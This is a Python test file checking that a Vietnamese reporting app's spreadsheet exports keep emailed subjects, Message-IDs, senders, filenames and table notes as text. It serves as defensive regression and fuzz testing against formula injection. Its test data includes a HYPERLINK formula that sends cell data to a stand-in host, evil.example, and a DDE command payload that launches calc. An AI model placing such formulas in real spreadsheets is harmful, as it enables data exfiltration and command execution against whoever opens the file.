"""Formula injection in the exports (issue 12, item 1): text that came from outside — a
subject, a Message-ID, a sender's address, an attachment's name, a note a unit wrote in its
table — is written as a string cell, exactly as received (control characters shown as
U+FFFD, bidirectional controls dropped), and never becomes a formula a spreadsheet would run.

The messages go through the real pipeline (`App.ingest_raw`), so the exports are fed what
the store actually keeps."""

from __future__ import annotations

import io
import itertools
import re
from collections.abc import Iterator
from datetime import datetime, timedelta
from email import policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import write_config
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cchc.app import App
from cchc.core.config import load_config
from cchc.exports.compliance import build_compliance_xlsx
from cchc.exports.onestop import build_onestop_xlsx
from cchc.exports.period_status import build_period_status_xlsx
from cchc.exports.style import safe

UNIT = "xa-dak-mol"
UNIT_NAME = "UBND xã Đắk Môl"
UNIT_ADDRESS = "ubndxadakmol@gmail.com"
START = datetime.fromisoformat("2024-01-20T08:00:00+07:00")
AT = datetime.fromisoformat("2024-12-20T08:00:00+07:00")
HEADER = [
    "STT",
    "Tên đơn vị",
    "Tổng số TTHC",
    "Tồn kỳ trước",
    "Tiếp nhận mới",
    "Trước hẹn",
    "Đúng hẹn",
    "Trễ hẹn",
    "%",
    "Đã trả",
    "Chưa trả",
    "Trong hạn",
    "Quá hạn",
    "Ghi chú",
]
PARENTS = [None, None, None, "Số hồ sơ", None, "Số hồ sơ đã giải quyết"] + [None] * 5
PARENTS += ["Hồ sơ đang giải quyết", None, None]
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


def table_xlsx(note: str) -> bytes:
    """A unit's Phụ lục 2 whose one row balances, with `note` in Ghi chú (as a string cell:
    the unit's own file need not be the attacker's formula)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["KẾT QUẢ THỰC HIỆN CƠ CHẾ MỘT CỬA, MỘT CỬA LIÊN THÔNG QUÝ I NĂM 2024"])
    ws.append(PARENTS)
    ws.append(HEADER)
    ws.append([1, UNIT_NAME, 12, 2, 20, 10, 8, 1, 94.74, 17, 2, 2, 1, None])
    cell = ws.cell(row=4, column=14)
    cell.value = note
    cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def message(subject: str, message_id: str, sender: str, filename: str, note: str) -> bytes:
    """A report mail; the Message-ID written as raw UTF-8 bytes, as a careless or hostile
    mailer may (the email package would refuse it)."""
    m = EmailMessage(policy=policy.SMTP)
    m["From"] = sender
    m["To"] = "phong.noivu@example.gov.vn"
    m["Subject"] = subject
    m["Message-ID"] = "<placeholder@message.id>"
    m["Date"] = "Mon, 12 Feb 2024 09:00:00 +0700"
    m.set_content(f"Kính gửi Phòng Nội vụ, {UNIT_NAME} gửi báo cáo CCHC quý I năm 2024.")
    m.add_attachment(
        table_xlsx(note),
        maintype="application",
        subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        filename=filename,
    )
    return m.as_bytes().replace(b"<placeholder@message.id>", message_id.encode("utf-8"), 1)


def all_cells(data: bytes) -> list[Any]:
    return [
        c for ws in openpyxl.load_workbook(io.BytesIO(data)) for row in ws.iter_rows() for c in row
    ]


def exports(app: App, at: datetime = AT) -> dict[str, bytes]:
    return {
        "compliance": build_compliance_xlsx(app, 2024, at),
        "onestop": build_onestop_xlsx(app, "2024-Q1", at),
        "status": build_period_status_xlsx(app, "2024-Q1", at),
    }


def stored(app: App, message_id: str) -> dict[str, Any]:
    """What the store kept of a message: its fields and its table's note."""
    (sub,) = [s for s in app.submissions("2024-Q1") if s["message_id"] == message_id]
    (msg,) = [m for m in app.messages() if m["message_id"] == message_id]
    (att,) = sub["attachments"]
    return {
        "subject": sub["subject"],
        "message_id": message_id,
        "from": msg["from"],
        "filename": att["filename"],
        "note": att["onestop"][0]["note"],
    }


def assert_as_text(files: dict[str, bytes], fields: dict[str, Any]) -> None:
    """No formula anywhere; each field found as a string cell showing it as received."""
    cells = {name: all_cells(data) for name, data in files.items()}
    for name, found in cells.items():
        formulas = [c.coordinate for c in found if c.data_type == "f"]
        assert formulas == [], name
        for c in found:
            if isinstance(c.value, str):
                assert not BIDI.search(c.value), (name, c.coordinate)
    evidence = {c.value: c for c in cells["compliance"] if isinstance(c.value, str)}
    for key in ("subject", "message_id", "from", "filename"):
        value = fields[key]
        if not value or not value.strip():
            continue
        cell = evidence.get(safe(value))
        assert cell is not None and cell.data_type == "s", (key, value)
    note = fields["note"]
    if note and note.strip():
        onestop = {c.value: c for c in cells["onestop"] if isinstance(c.value, str)}
        assert safe(note.strip()) in onestop and onestop[safe(note.strip())].data_type == "s"


# --- the inputs of issue 12 -------------------------------------------------------------------


def test_the_reported_formula_inputs_stay_text_in_every_export(tmp_path: Path) -> None:
    """GIVEN the attack of issue 12 — a subject, a Message-ID and a file name that are Excel
    formulas, from a counting message WHEN every export is built THEN they are string cells
    holding exactly what was received, and no cell is a formula."""
    app = App(load_config(write_config(tmp_path)))
    subject = '=HYPERLINK("http://evil.example/?x="&B2,"BC CCHC quy I nam 2024")'
    filename = '=HYPERLINK("http://evil.example","bc").xlsx'
    raw = message(subject, "=1+cmd|' /C calc'!A0", UNIT_ADDRESS, filename, "=1+1")
    app.ingest_raw(raw, source="attack.eml", arrived=START)
    app.refresh()
    (msg,) = app.messages()
    assert msg["disposition"] == "counted" and msg["unit"] == UNIT
    fields = stored(app, msg["message_id"])
    assert fields["subject"] == subject and fields["filename"] == filename
    assert fields["message_id"].startswith("=1+cmd|")
    assert_as_text(exports(app), fields)
    app.close()


# --- any hostile text -------------------------------------------------------------------------

LEADS = st.sampled_from(["=", "+", "-", "@", "=+", "-@", "\u202e=", "=\u2066"])
HOSTILE_ALPHABET = st.one_of(
    st.characters(codec="utf-8", exclude_categories=("Cs",)),
    st.sampled_from(list("=+-@\"'|!(),;&") + [chr(c) for c in range(0x202A, 0x202F)]),
    st.sampled_from([chr(c) for c in range(0x2066, 0x206A)] + ["\x01", "\x07", "\x1b", "\x7f"]),
)
ID_ALPHABET = st.one_of(  # a header's one line: no spaces, no line breaks
    st.characters(min_codepoint=0x21, max_codepoint=0x7E),
    st.sampled_from([chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]),
)


def hostile(alphabet: st.SearchStrategy[str] = HOSTILE_ALPHABET) -> st.SearchStrategy[str]:
    """Text starting like a formula, with bidirectional and control characters inside."""
    return st.builds(lambda lead, rest: lead + rest, LEADS, st.text(alphabet, max_size=40))


def _no_line_breaks(text: str) -> str:
    """A header is one line: what Python counts as a line break cannot be in it."""
    return re.sub("[\r\n\x00\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]", " ", text)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    app = App(load_config(write_config(tmp_path_factory.mktemp("hostile"))))
    yield app
    app.close()


COUNTER = itertools.count()


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    subject=hostile(),
    message_id=hostile(ID_ALPHABET),
    filename=hostile(),
    note=hostile(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"))),
    from_unit=st.booleans(),
    local=st.text(st.sampled_from("=+-@abc123"), min_size=1, max_size=8),
)
def test_hostile_text_in_every_field_never_becomes_a_formula(
    hostile_store: App,
    subject: str,
    message_id: str,
    filename: str,
    note: str,
    from_unit: bool,
    local: str,
) -> None:
    """GIVEN a counting message (from the unit's address, or matched by content from a
    stranger's) whose subject, Message-ID, sender, file name and table note start with
    = + - @ and carry bidirectional and control characters WHEN the year's compliance, the
    period's one-stop table and its status table are exported THEN no cell is a formula and
    each field is a string cell showing it as the store keeps it."""
    app = hostile_store
    n = next(COUNTER)
    sender = UNIT_ADDRESS if from_unit else f'"{local}"@evil.example'
    filename = _no_line_breaks(filename).replace("/", "_") + ".xlsx"
    message_id = f"{message_id.replace(' ', '')}.{n}"
    raw = message(_no_line_breaks(subject), message_id, sender, filename, note)
    app.ingest_raw(raw, source=f"hostile-{n}.eml", arrived=START + timedelta(minutes=n))
    app.refresh()
    mine = [m for m in app.messages() if m["source"] == f"hostile-{n}.eml"]
    if not mine or mine[0]["disposition"] not in ("counted", "correction"):
        return  # a message that does not count is in no export
    fields = stored(app, mine[0]["message_id"])
    assert_as_text(exports(app, START + timedelta(minutes=n, seconds=30)), fields)
